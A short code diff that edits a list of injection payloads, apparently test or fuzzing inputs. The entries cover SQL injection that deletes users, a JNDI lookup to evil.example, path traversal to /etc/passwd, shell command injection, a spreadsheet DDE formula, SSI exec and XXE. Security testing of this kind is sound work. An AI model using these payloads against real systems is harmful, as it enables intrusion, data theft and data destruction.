@@ -71,10 +71,10 @@ ${alert(1)}
 1); DELETE FROM users WHERE (1=1
 ${jndi:ldap://evil.example/x}
 ../../../../etc/passwd
-$(touch /tmp/x)`id`;id|id
+$(id)`id`;id|id
 =cmd|' /C calc'!A0
 <!--#exec cmd="id"-->
-<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
+<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/x">]>
 '''.strip().splitlines()
 
 
